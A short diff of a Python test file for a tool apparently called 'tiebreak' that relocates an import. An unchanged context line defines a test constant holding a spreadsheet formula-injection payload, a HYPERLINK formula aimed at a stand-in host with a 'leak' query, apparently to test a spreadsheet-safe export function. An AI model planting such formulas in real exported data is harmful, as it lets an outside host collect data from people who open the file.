@@ -8,9 +8,9 @@ from pathlib import Path
 
 import pytest
 
-from tiebreak._examples import example_text
 from tiebreak._presenters import delimited, spreadsheet_safe
 from tiebreak.cli import main
+from tiebreak.readers import example_text
 
 EVIL = '=HYPERLINK("http://x.test/?leak","Click")'
 
